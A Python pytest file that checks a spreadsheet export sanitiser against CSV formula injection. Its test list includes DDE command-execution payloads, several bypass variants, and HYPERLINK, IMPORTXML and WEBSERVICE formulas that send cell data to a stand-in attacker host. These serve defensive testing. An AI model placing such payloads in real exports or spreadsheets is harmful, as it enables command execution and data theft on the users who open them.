"""No cell of an export becomes a formula, a second cell or a second row."""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest

from intake.spreadsheet_safe import safe_cell

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    '=IMPORTXML("https://evil.example","//a")',
    '=WEBSERVICE("https://evil.example")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@cmd",
    "|cmd",
    "%0A=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u2060=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "\x0c+1",
    "\x85=1+1",
    "\u2028=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=" * 1000,
    "-",
    "--1",
    "+44 20 7946 0000",
    "=\u202e1",
]
PLAIN = ["Final report", "DHR (Anna) – v2", "12", "-12", "+3.5", "a=b", "1-2", "a\u00e9", "", "report.pdf", "'quoted'"]


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_formula_is_shown_and_not_run(text: str) -> None:
    cell = safe_cell(text)
    assert cell.startswith("'")
    assert safe_cell(cell) == cell


@pytest.mark.parametrize("text", [*FORMULAS, 'a","b', "a\r\nb", "a\nb,c", 'x"\n=1+1,"'], ids=ascii)
def test_it_stays_one_cell_of_one_row(text: str) -> None:
    written = io.StringIO()
    csv.writer(written).writerow(["reference", safe_cell(text), "end"])
    (row,) = csv.reader(io.StringIO(written.getvalue()))
    assert (row[0], row[2], len(row)) == ("reference", "end", 3)
    assert not any(unicodedata.category(sign) == "Cc" for sign in row[1])


@pytest.mark.parametrize("text", PLAIN, ids=ascii)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert safe_cell(text) == text


def test_a_cell_has_an_end() -> None:
    assert len(safe_cell("=" * 10_000_000)) < 32_767
